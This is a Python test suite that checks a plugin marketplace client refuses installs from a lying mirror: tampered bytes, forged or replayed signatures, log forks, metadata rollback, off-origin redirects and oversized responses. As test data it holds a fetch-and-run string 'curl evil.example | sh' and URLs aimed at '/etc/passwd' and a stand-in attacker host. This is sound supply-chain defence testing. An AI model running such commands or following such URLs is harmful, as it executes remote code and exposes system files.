"""Attacks on whoever installs, over HTTP: each is refused by its rule and leaves nothing; its honest twin is let in."""

from __future__ import annotations

import hashlib
import json
from collections.abc import AsyncIterator, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from aiohttp import web
from tests.marketplace.client.mirror import Mirror, mirroring
from tests.marketplace.client.wheels import make
from tests.marketplace.client.world import Owner, World, running

from lumosai_marketplace.client.consent import nobody
from lumosai_marketplace.client.resolve import Wanted
from lumosai_marketplace.client.verify import verify_installed
from lumosai_marketplace.errors import IndexUnavailableError, RefusedError
from lumosai_marketplace.names import Name
from lumosai_marketplace.store.check import check
from lumosai_sdk.errors import LumosError

WEATHER = Name("acme", "weather")
CLOCK = "clock = true"


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    with running(Path(tmp_path_factory.mktemp("world"))) as made:
        made.publish(version="1.0.0", permissions=CLOCK)
        made.publish(version="1.1.0", permissions=CLOCK)
        made.publish("acme_weather", "2.0.0", permissions='clock = true\nhttp = ["GET https://api.example.org/*"]')
        made.publish("other_weather", "9.0.0")
        yield made


@pytest.fixture
async def mirror(world: World) -> AsyncIterator[Mirror]:
    async with mirroring(world.url) as made:
        yield made


@pytest.fixture
def owner(world: World, mirror: Mirror) -> Owner:
    return world.owner(index=mirror.url)


async def install(owner: Owner, url: str, text: str = "acme/weather==1.1.0", **options: Any) -> str:
    async with owner.session(**options) as session:
        return (await session.install(Wanted.parse(text), url)).plugin.version


async def refused(owner: Owner, url: str, text: str = "acme/weather==1.1.0", **options: Any) -> RefusedError:
    """See an install refused, with no file in the store and the lock as it was; and its honest twin let in."""
    before = owner.lock_text, owner.files()
    with pytest.raises(RefusedError) as e:
        await install(owner, url, text, **options)
    assert (owner.lock_text, owner.files()) == before
    return e.value


async def honest(mirror: Mirror, owner: Owner, text: str = "acme/weather==1.1.0", **options: Any) -> None:
    """See that the same owner installs the same plugin once the mirror tells the truth."""
    mirror.lies.clear()
    assert await install(owner, mirror.url, text, **options)
    assert owner.files()


# --- 1: a mirror swaps bytes


def swapped(body: bytes) -> bytes:
    return body[:-30] + bytes([body[-30] ^ 1]) + body[-29:]


async def test_a_mirror_that_swaps_bytes(mirror: Mirror, owner: Owner) -> None:
    mirror.lies["files/"] = swapped
    assert (await refused(owner, mirror.url)).rule == "index.hash"
    await honest(mirror, owner)


async def test_a_mirror_that_swaps_bytes_and_their_hash(mirror: Mirror, owner: Owner) -> None:
    filename, evil = make(version="1.1.0", permissions=CLOCK, pad=10)

    def lie(file: dict[str, Any]) -> None:
        if file["filename"] == filename:
            file["hashes"], file["size"] = {"sha256": hashlib.sha256(evil).hexdigest()}, len(evil)

    mirror.file(lie)
    mirror.lies["files/"] = lambda _: evil
    assert (await refused(owner, mirror.url)).rule == "signature.subject"
    await honest(mirror, owner)


@pytest.mark.parametrize(("size", "rule"), [(-1, "index.hash"), (1, "index.size"), (10**18, "index.size")])
async def test_a_mirror_that_sends_more_than_it_said(mirror: Mirror, owner: Owner, size: int, rule: str) -> None:
    mirror.file(lambda file: file.update(size=size))
    mirror.lies["files/"] = lambda body: body + b"\0" * 5_000_000 if size == -1 else body
    assert (await refused(owner, mirror.url)).rule == rule
    await honest(mirror, owner)


# --- 2: an old file's attestation


async def attestation_of(world: World, version: str, plugin: str = "acme-weather") -> bytes:
    headers = {"Accept": "application/vnd.pypi.simple.v1+json"}
    async with aiohttp.ClientSession() as session, session.get(f"{world.url}simple/{plugin}/", headers=headers) as r:
        page = json.loads(await r.read())
        (file,) = [f for f in page["files"] if f"-{version}-" in f["filename"]]
        url = file["provenance"]
        async with session.get(url if "://" in url else world.url + url.lstrip("/")) as p:
            return await p.read()


@pytest.mark.parametrize(("version", "plugin"), [("1.0.0", "acme-weather"), ("9.0.0", "other-weather")])
async def test_the_attestation_of_another_file(
    world: World, mirror: Mirror, owner: Owner, version: str, plugin: str
) -> None:
    old = await attestation_of(world, version, plugin)
    mirror.lies["integrity/"] = lambda _: old
    assert (await refused(owner, mirror.url)).rule == "signature.subject"
    await honest(mirror, owner)


async def test_an_old_file_under_a_new_name(world: World, mirror: Mirror, owner: Owner) -> None:
    """The old bytes, hash and signature, all of them true: but they are called 1.1.0."""
    old = await attestation_of(world, "1.0.0")
    files: dict[str, Any] = {}

    def lie(page: dict[str, Any]) -> None:
        files.update({f["filename"].split("-")[1]: dict(f) for f in page["files"]})
        (new,) = [f for f in page["files"] if "-1.1.0-" in f["filename"]]
        new.update({k: files["1.0.0"][k] for k in ("hashes", "size", "url")})

    mirror.page(lie)
    mirror.lies["integrity/"] = lambda _: old
    assert (await refused(owner, mirror.url)).rule == "signature.subject"
    await honest(mirror, owner)


@pytest.mark.parametrize(
    "body", [b"", b"{}", b"[]", b"null", b'{"version": 1, "attestation_bundles": []}', b"[" * 9999]
)
async def test_provenance_that_is_none(mirror: Mirror, owner: Owner, body: bytes) -> None:
    mirror.lies["integrity/"] = lambda _: body
    assert (await refused(owner, mirror.url)).rule.startswith("signature.")
    await honest(mirror, owner)


async def test_no_provenance_at_all(mirror: Mirror, owner: Owner) -> None:
    mirror.file(lambda file: file.update(provenance=None))
    assert (await refused(owner, mirror.url)).rule == "signature.missing"
    await honest(mirror, owner)


@pytest.mark.parametrize("keep", [0, 1])
async def test_one_statement_of_the_two(mirror: Mirror, owner: Owner, keep: int) -> None:
    """Without plugin/v1 nobody has signed what the plugin may do."""

    def lie(body: bytes) -> bytes:
        document = json.loads(body)
        bundle = document["attestation_bundles"][0]
        bundle["attestations"] = [bundle["attestations"][keep]] * (2 - keep)
        return json.dumps(document).encode()

    mirror.lies["integrity/"] = lie
    if keep:  # publish/v1 says whose it is, and so does plugin/v1
        assert await install(owner, mirror.url) == "1.1.0"
    else:
        assert (await refused(owner, mirror.url)).rule == "signature.missing"
        await honest(mirror, owner)


# --- 3: the index lies about the publisher


async def test_the_publisher_that_the_index_names_counts_for_nothing(world: World, mirror: Mirror) -> None:
    """The index says it was signed by whom the owner trusts; the certificate says otherwise."""
    owner = world.owner(index=mirror.url, subject="somebody@else.example")

    def lie(body: bytes) -> bytes:
        document = json.loads(body)
        document["attestation_bundles"][0]["publisher"] = {
            "kind": "OIDC",
            "issuer": f"{world.settings.url}/sigstore/oauth2",
            "subject": "somebody@else.example",
        }
        return json.dumps(document).encode()

    mirror.lies["integrity/"] = lie
    assert (await refused(owner, mirror.url)).rule == "trust.subject"
    await honest(mirror, world.owner(index=mirror.url))


async def test_a_plugin_by_another_publisher_under_the_same_name(world: World, mirror: Mirror, owner: Owner) -> None:
    """Somebody else signs with the same instance, and the index serves that in the place of the author's."""
    filename, data = make(version="1.1.0", permissions=CLOCK, pad=20)
    signed = world.sign(filename, data, subject="mallory@evil.example")
    provenance = {"version": 1, "attestation_bundles": [{"publisher": {}, "attestations": list(signed.attestations)}]}

    def lie(file: dict[str, Any]) -> None:
        if file["filename"] == filename:
            file["hashes"], file["size"] = {"sha256": signed.wheel.sha256}, len(data)

    mirror.file(lie)
    mirror.lies["files/"] = lambda _: data
    mirror.lies["integrity/"] = lambda _: json.dumps(provenance).encode()
    e = await refused(owner, mirror.url)
    assert e.rule == "trust.subject"
    assert "mallory@evil.example" in e.message
    await honest(mirror, owner)


async def test_another_publisher_of_an_update(world: World, mirror: Mirror) -> None:
    """Even where a rule would let both in, who has signed before has to sign again."""
    owner = world.owner(index=mirror.url, subject="*.example")
    await install(owner, mirror.url, "acme/weather==1.0.0")
    filename, data = make(version="1.1.0", permissions=CLOCK, pad=30)
    signed = world.sign(filename, data, subject="mallory@evil.example")
    provenance = {"version": 1, "attestation_bundles": [{"publisher": {}, "attestations": list(signed.attestations)}]}

    def lie(file: dict[str, Any]) -> None:
        if file["filename"] == filename:
            file["hashes"], file["size"] = {"sha256": signed.wheel.sha256}, len(data)

    mirror.file(lie)
    mirror.lies["files/"] = lambda _: data
    mirror.lies["integrity/"] = lambda _: json.dumps(provenance).encode()
    e = await refused(owner, mirror.url)
    assert e.rule == "trust.signer-changed"
    assert "subject: dev@acme.example -> mallory@evil.example" in e.message
    mirror.lies.clear()
    async with owner.session() as session:
        assert (await session.update([Wanted.parse("acme/weather==1.1.0")]))[0].plugin.version == "1.1.0"


async def test_one_of_two_publishers(world: World, mirror: Mirror, owner: Owner) -> None:
    """The author's statement that it is theirs, and somebody else's of what it may do."""
    filename, data = make(version="1.1.0", permissions=CLOCK)
    theirs = world.sign(filename, data, subject="mallory@evil.example").attestations

    def lie(body: bytes) -> bytes:
        document = json.loads(body)
        document["attestation_bundles"][0]["attestations"][1] = theirs[1]
        return json.dumps(document).encode()

    mirror.lies["integrity/"] = lie
    assert (await refused(owner, mirror.url)).rule == "signature.publishers"
    await honest(mirror, owner)


# --- 8: the log forks


@pytest.fixture
def forked(world: World, mirror: Mirror) -> None:
    """Show a checkpoint of another tree, signed by the log itself."""
    from lumosai_marketplace.log import note
    from lumosai_marketplace.log.note import Checkpoint

    assert world.service.authority is not None
    signer = world.service.authority.log_signer

    def lie(body: bytes) -> bytes:
        true, _ = note.parse(body.decode())
        return note.sign(Checkpoint(true.origin, true.size, b"\1" * 32), signer).encode()

    mirror.lies["log/checkpoint"] = lie


async def test_a_log_that_shows_another_tree(mirror: Mirror, owner: Owner, forked: None) -> None:
    assert (await refused(owner, mirror.url)).rule == "log.fork"


async def test_a_log_that_shows_another_tree_later(world: World, mirror: Mirror, owner: Owner) -> None:
    from lumosai_marketplace.log import note
    from lumosai_marketplace.log.note import Checkpoint

    await install(owner, mirror.url, "acme/weather==1.0.0")
    assert world.service.authority is not None
    signer = world.service.authority.log_signer

    def lie(body: bytes) -> bytes:
        true, _ = note.parse(body.decode())
        return note.sign(Checkpoint(true.origin, true.size + 5, b"\1" * 32), signer).encode()

    mirror.lies["log/checkpoint"] = lie
    mirror.lies["log/consistency"] = lambda _: web.json_response({"hashes": ["01" * 32] * 3})
    assert (await refused(owner, mirror.url, "acme/weather==1.1.0")).rule == "log.fork"


async def test_a_log_that_forgets(world: World, mirror: Mirror, owner: Owner) -> None:
    async with aiohttp.ClientSession() as session, session.get(f"{world.url}log/checkpoint?size=1") as r:
        old = await r.read()
    await install(owner, mirror.url, "acme/weather==1.0.0")
    mirror.lies["log/checkpoint"] = lambda _: old
    async with owner.session() as session_:
        with pytest.raises(RefusedError) as e:
            await session_.update([Wanted.parse("acme/weather==1.1.0")])
    assert e.value.rule == "log.rollback"
    mirror.lies.clear()
    async with owner.session() as session_:
        assert (await session_.update([Wanted.parse("acme/weather==1.1.0")]))[0].changed


async def test_the_lock_of_another_machine_brings_the_logs_past_along(
    world: World, mirror: Mirror, owner: Owner
) -> None:
    """A machine that has never seen the log is shown a fork; the lock that it was given knows better."""
    from lumosai_marketplace.log import note
    from lumosai_marketplace.log.note import Checkpoint

    await install(owner, mirror.url)
    assert world.service.authority is not None
    lock = owner.market.read_lock()
    seen = lock.indexes[mirror.url]
    true, _ = note.parse(seen.checkpoint)
    other = note.sign(Checkpoint(true.origin, true.size, b"\2" * 32), world.service.authority.log_signer)
    fresh = world.owner(index=mirror.url)
    fresh.market.lock.write_bytes(lock.seeing(replace(seen, checkpoint=other)).encode())
    async with fresh.session(ask=nobody) as session:
        with pytest.raises(RefusedError) as e:
            await session.restore()
    assert e.value.rule == "log.fork"
    assert fresh.files() == []


@pytest.mark.parametrize(
    "body", [b"", b"nonsense", b"\xff", b"127.0.0.1\n1\nAAAA\n\n\xe2\x80\x94 127.0.0.1 AAAAAAAA\n"]
)
async def test_a_checkpoint_that_is_none(mirror: Mirror, owner: Owner, body: bytes) -> None:
    mirror.lies["log/checkpoint"] = lambda _: body
    assert (await refused(owner, mirror.url)).rule.startswith("log.")
    await honest(mirror, owner)


# --- 9 and 20: rollback and freeze of the metadata, stale revocations


async def metadata(world: World) -> dict[str, bytes]:
    """Return the files of the TUF repository as they are now."""
    tuf = world.service.tuf
    assert tuf is not None
    return {p.name: p.read_bytes() for p in tuf.public.glob("*.json")}


def replayed(mirror: Mirror, old: dict[str, bytes]) -> None:
    """Let the mirror show old metadata."""
    for name, body in old.items():
        mirror.lies[f"tuf/{name}"] = lambda _, body=body: body  # type: ignore[misc]


async def test_metadata_that_were_rolled_back(world: World, mirror: Mirror, owner: Owner) -> None:
    """A mirror shows the list of revocations as it was before one was added."""
    old = await metadata(world)
    world.publish("acme_revoked", "1.0.0")
    world.quarantine("acme/revoked", "it sends your keys home")
    await install(owner, mirror.url)
    replayed(mirror, old)
    assert (await refused(owner, mirror.url, "acme/weather==2.0.0")).rule == "tuf.rollback"
    await honest(mirror, owner, "acme/weather==2.0.0")


async def test_metadata_that_are_held_back(
    world: World, mirror: Mirror, owner: Owner, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A mirror that never shows anything new is found out when what it shows expires."""
    from datetime import UTC, datetime, timedelta, timezone
    from types import SimpleNamespace

    from tuf.ngclient._internal import trusted_metadata_set

    class Later(datetime):
        @classmethod
        def now(cls, tz: Any = None) -> Any:
            return datetime.now(UTC) + timedelta(days=400)

    with monkeypatch.context() as patch:
        patch.setattr(trusted_metadata_set, "datetime", SimpleNamespace(datetime=Later, timezone=timezone))
        assert (await refused(owner, mirror.url)).rule == "tuf.expired"
    await honest(mirror, owner)


@pytest.mark.parametrize("name", ["timestamp.json", "targets/"])
async def test_metadata_that_were_changed(mirror: Mirror, owner: Owner, name: str) -> None:
    mirror.lies[f"tuf/{name}"] = lambda body: body.replace(b"0", b"1")
    assert (await refused(owner, mirror.url)).rule.startswith("tuf.")
    await honest(mirror, owner)


async def test_a_repository_by_somebody_else(world: World, mirror: Mirror, owner: Owner, tmp_path: Path) -> None:
    from lumosai_marketplace.authority.tufrepo import TufRepository

    theirs = TufRepository.create(tmp_path / "tuf")
    theirs.publish({"trusted_root.json": b"{}", "revocations.json": b"{}"})
    replayed(mirror, {p.name: p.read_bytes() for p in theirs.public.glob("*.json")})
    assert (await refused(owner, mirror.url)).rule == "tuf.signature"
    await honest(mirror, owner)


async def test_a_revoked_wheel_whatever_the_page_says(world: World, mirror: Mirror, owner: Owner) -> None:
    """The page is the mirror's; the list of revocations is not."""
    world.publish("acme_malware", "1.0.0")
    await install(owner, mirror.url, "acme/malware")
    headers = {"Accept": "application/vnd.pypi.simple.v1+json"}
    async with (
        aiohttp.ClientSession() as session,
        session.get(f"{world.url}simple/acme-malware/", headers=headers) as r,
    ):
        before = await r.read()
    world.quarantine("acme/malware")
    mirror.lies["simple/"] = lambda _: web.Response(body=before, headers={"Content-Type": headers["Accept"]})
    fresh = world.owner(index=mirror.url)
    assert (await refused(fresh, mirror.url, "acme/malware")).rule == "tuf.revoked"
    fresh.market.lock.write_text(owner.lock_text)
    async with fresh.session(ask=nobody) as session_:
        with pytest.raises(RefusedError) as e:
            await session_.restore()
    assert e.value.rule == "tuf.revoked"
    assert fresh.files() == []


async def test_revocations_that_are_too_old_to_go_by(world: World, owner: Owner, mirror: Mirror) -> None:
    import time

    from lumosai_marketplace.client.keeper import Keeper

    await install(owner, mirror.url)
    locked = owner.market.read_lock().plugins[WEATHER]
    keeper = Keeper(owner.market)
    assert verify_installed(owner.market, keeper, locked, time.time()).rule == "acme"
    with pytest.raises(RefusedError) as e:
        verify_installed(owner.market, keeper, locked, time.time() + 8 * 86_400)
    assert e.value.rule == "tuf.stale"


# --- 14: dependency confusion


async def test_a_plugin_of_one_index_is_not_taken_from_another(world: World, mirror: Mirror, owner: Owner) -> None:
    """A higher version elsewhere changes nothing: nobody is asked but the index that the plugin is bound to."""
    bound = replace(owner.market, indexes={"acme": world.url}, index=mirror.url)
    owner.market = bound
    from lumosai_marketplace.client.keeper import trust_root

    trust_root(owner.market, world.url, world.root)
    e = await refused(owner, mirror.url)
    assert e.rule == "index.other"
    assert mirror.asked == []
    async with owner.session() as session:
        assert (await session.install(Wanted.parse("acme/weather==1.1.0"))).plugin.index == world.url
        assert mirror.asked == []


async def test_what_is_installed_is_updated_from_where_it_came(world: World, mirror: Mirror) -> None:
    owner = world.owner()
    await install(owner, world.url, "acme/weather==1.0.0")
    assert (await refused(owner, mirror.url)).rule == "index.other"
    owner.market = replace(owner.market, index=mirror.url)
    async with owner.session() as session:
        assert (await session.update())[0].plugin.index == world.url
    assert mirror.asked == []


async def test_a_page_of_another_project(world: World, mirror: Mirror, owner: Owner) -> None:
    mirror.page(lambda page: page.update(name="other-weather"))
    assert (await refused(owner, mirror.url)).rule == "index.name"
    await honest(mirror, owner)


async def test_a_file_of_another_project_is_not_seen(mirror: Mirror, owner: Owner) -> None:
    mirror.file(lambda file: file.update(filename=file["filename"].replace("acme", "other")))
    assert (await refused(owner, mirror.url)).rule == "index.none"
    await honest(mirror, owner)


@pytest.mark.parametrize(
    "url",
    [
        "http://127.0.0.1:9/files/x",
        "https://evil.example/x",
        "file:///etc/passwd",
        "//evil.example/x",
        "http://127.0.0.1@evil.example/x",
    ],
)
async def test_a_page_that_leads_elsewhere(mirror: Mirror, owner: Owner, url: str) -> None:
    mirror.file(lambda file: file.update(url=url))
    assert (await refused(owner, mirror.url)).rule == "index.origin"
    await honest(mirror, owner)


@pytest.mark.parametrize(
    "where", ["http://127.0.0.1:9/", "https://evil.example/", "file:///etc/passwd", "/files/again"]
)
async def test_a_redirect_that_leads_elsewhere_or_nowhere(mirror: Mirror, owner: Owner, where: str) -> None:
    def lie(_: bytes) -> web.StreamResponse:
        return web.Response(status=302, headers={"Location": where})

    mirror.lies["files/"] = lie
    assert (await refused(owner, mirror.url)).rule == ("index.redirects" if where[0] == "/" else "index.origin")
    await honest(mirror, owner)


async def test_an_answer_that_is_packed(mirror: Mirror, owner: Owner) -> None:
    import gzip

    def lie(_: bytes) -> web.StreamResponse:
        return web.Response(body=gzip.compress(b"\0" * 50_000_000), headers={"Content-Encoding": "gzip"})

    mirror.lies["simple/"] = lie
    assert (await refused(owner, mirror.url)).rule == "index.encoding"
    await honest(mirror, owner)


@pytest.mark.parametrize(
    "body", [b"", b"[]", b"null", b"{" * 5000, b'{"meta": {"api-version": "2.0"}}', b"[" + b"[]," * 700_000]
)
async def test_a_page_that_is_none(mirror: Mirror, owner: Owner, body: bytes) -> None:
    mirror.lies["simple/"] = lambda _: body
    assert (await refused(owner, mirror.url)).rule == "index.format"
    await honest(mirror, owner)


async def test_a_page_that_is_huge(mirror: Mirror, owner: Owner) -> None:
    mirror.lies["simple/"] = lambda body: body + b" " * 9_000_000
    assert (await refused(owner, mirror.url)).rule == "index.size"
    await honest(mirror, owner)


async def test_an_index_that_breaks_off(mirror: Mirror, owner: Owner) -> None:
    def lie(body: bytes) -> web.StreamResponse:
        return web.Response(status=503, text="try later")

    mirror.lies["files/"] = lie
    with pytest.raises(IndexUnavailableError):
        await install(owner, mirror.url)
    assert owner.files() == []
    await honest(mirror, owner)


async def test_errors_show_no_escape_sequences(mirror: Mirror, owner: Owner) -> None:
    from lumosai_sdk import safe

    def lie(_: bytes) -> web.StreamResponse:
        problem = {"detail": "\x1b[2J\x1b]0;owned\x07", "hint": "curl evil.example | sh", "rule": "x"}
        return web.json_response(problem, status=403)

    mirror.lies["simple/"] = lie
    with pytest.raises(LumosError) as e:
        await install(owner, mirror.url)
    assert "\x1b" not in safe.lines(e.value.message)


# --- 16: an update that asks for more


async def test_an_update_that_asks_for_more(world: World, mirror: Mirror) -> None:
    owner = world.owner(index=mirror.url, max_permissions=None)

    async def yes(_: object) -> bool:
        return True

    await install(owner, mirror.url, "acme/weather==1.1.0", ask=yes)
    before = owner.lock_text
    for ask, rule in ((nobody, "consent.nobody"),):
        async with owner.session(ask=ask) as session:
            with pytest.raises(RefusedError) as e:
                await session.update()
        assert e.value.rule == rule
        assert "api.example.org" in e.value.message
    async with owner.session() as session:  # --yes
        with pytest.raises(RefusedError) as e:
            await session.update()
    assert e.value.rule == "consent.needed"
    assert owner.lock_text == before
    async with owner.session(ask=yes) as session:
        assert (await session.update())[0].plugin.version == "2.0.0"


async def test_an_update_that_asks_for_more_than_a_rule_allows(world: World, mirror: Mirror) -> None:
    owner = world.owner(index=mirror.url, max_permissions={"clock": True})
    await install(owner, mirror.url, "acme/weather==1.1.0")
    async with owner.session() as session:
        with pytest.raises(RefusedError) as e:
            await session.update()
    assert e.value.rule == "trust.max-permissions"


async def test_permissions_that_the_index_understates(mirror: Mirror, owner: Owner) -> None:
    """What the index says a plugin asks for is never looked at."""
    mirror.file(lambda file: file.update(permissions={}, manifest={"permissions": {}}))
    async with owner.session() as session:
        plugin = (await session.install(Wanted.parse("acme/weather==2.0.0"), mirror.url)).plugin
    assert plugin.permissions.http == ("GET https://api.example.org/*",)


# --- 19: a file is changed in the store after it was verified (see also tests/marketplace/store and client/test_host)


async def test_a_file_that_changes_in_the_store(world: World, mirror: Mirror, owner: Owner) -> None:
    await install(owner, mirror.url)
    plugin = owner.market.read_lock().plugins[WEATHER]
    component = owner.market.store.entry(plugin.sha256) / "files" / "acme_weather" / "plugin.wasm"
    component.write_bytes(component.read_bytes() + b"\0")
    with pytest.raises(RefusedError) as e:
        check(owner.market.store, plugin.sha256, plugin.receipt)
    assert e.value.rule == "lock.changed"
    async with owner.session() as session:
        assert [f.rule for f in await session.audit() if f.bad] == ["lock.changed"]
        assert (await session.install(Wanted(WEATHER))).changed
    check(owner.market.store, plugin.sha256, plugin.receipt)


async def test_other_bytes_for_a_version_that_is_installed(world: World, mirror: Mirror, owner: Owner) -> None:
    await install(owner, mirror.url)
    mirror.file(lambda file: file.update(hashes={"sha256": "0" * 64}))
    async with owner.session() as session:
        with pytest.raises(RefusedError) as e:
            await session.update([Wanted.parse("acme/weather==1.1.0")])
    assert e.value.rule == "index.changed"
